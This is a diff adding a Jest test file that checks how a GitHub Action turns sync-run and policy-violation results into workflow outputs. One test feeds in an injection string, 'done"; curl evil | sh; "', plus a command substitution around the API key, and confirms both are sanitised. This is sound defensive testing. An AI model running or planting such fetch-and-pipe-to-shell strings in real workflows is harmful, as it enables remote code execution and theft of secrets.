@@ -1,0 +1,82 @@
+import { describe, expect, it } from '@jest/globals'
+import { createRedactor } from '../../src/log-safety.js'
+import { OUTPUT_NAMES, outputsOf } from '../../src/report/outputs.js'
+import {
+  API_KEY,
+  completedSync,
+  failingPolicies,
+  notAwaitedSync,
+  policyOutcome,
+  RUN_ID,
+  runReport,
+  syncOutcome,
+  syncRun
+} from '../__fixtures__/report.js'
+
+const redact = createRedactor([API_KEY])
+
+describe('outputsOf', () => {
+  it('sets every output of both stages', () => {
+    const report = runReport({ sync: completedSync(), policies: failingPolicies() })
+    expect(outputsOf(report, redact, '/tmp/report.json')).toEqual({
+      'sync-run-id': RUN_ID,
+      'sync-run-status': 'completed',
+      'sync-run-status-reason': '',
+      'sync-total-rows': '1234567',
+      'sync-errors': '0',
+      'sync-warnings': '2',
+      'sync-duration-seconds': '312',
+      result: 'fail',
+      'report-file': '/tmp/report.json',
+      violations: '17',
+      'critical-violations': '3',
+      'high-violations': '5',
+      'medium-violations': '2',
+      'low-violations': '7',
+      'new-violations': '2',
+      'violating-policies': '4',
+      'stale-policies': '1'
+    })
+  })
+
+  it('names each output of action.yml, and leaves the unknown ones empty', () => {
+    const outputs = outputsOf(runReport({ errors: [{ stage: 'inputs', message: 'bad' }] }), redact)
+    expect(Object.keys(outputs).sort()).toEqual([...OUTPUT_NAMES].sort())
+    expect(Object.entries(outputs).filter(([, value]) => value !== '')).toEqual([
+      ['result', 'fail']
+    ])
+  })
+
+  it('wait: false: the run is known, its duration is not', () => {
+    const outputs = outputsOf(runReport({ sync: notAwaitedSync() }), redact)
+    expect(outputs['sync-run-status']).toBe('created')
+    expect(outputs['sync-duration-seconds']).toBe('')
+    expect(outputs.violations).toBe('')
+  })
+
+  it('counts violations of unknown severities in the totals', () => {
+    const outcome = policyOutcome([
+      { ...failingPolicies().policies[0], severity: 'urgent', newViolations: 1 }
+    ])
+    const outputs = outputsOf(runReport({ policies: outcome }), redact)
+    expect(outputs.violations).toBe('3')
+    expect(outputs['new-violations']).toBe('1')
+    expect(outputs['critical-violations']).toBe('0')
+  })
+
+  it('keeps text from the Platform from becoming shell code in a workflow', () => {
+    const sync = syncOutcome({
+      run: syncRun({ status: 'done"; curl evil | sh; "', status_reason: `$(${API_KEY})\nx` })
+    })
+    const outputs = outputsOf(runReport({ sync }), redact)
+    expect(outputs['sync-run-status']).toBe('done___curl_evil___sh___')
+    expect(outputs['sync-run-status-reason']).toBe('_______x')
+  })
+
+  it('leaves out counts that are not numbers', () => {
+    const sync = syncOutcome({ run: syncRun({ total_rows: null, errors: Number.NaN }) })
+    const outputs = outputsOf(runReport({ sync }), redact)
+    expect(outputs['sync-total-rows']).toBe('')
+    expect(outputs['sync-errors']).toBe('')
+  })
+})
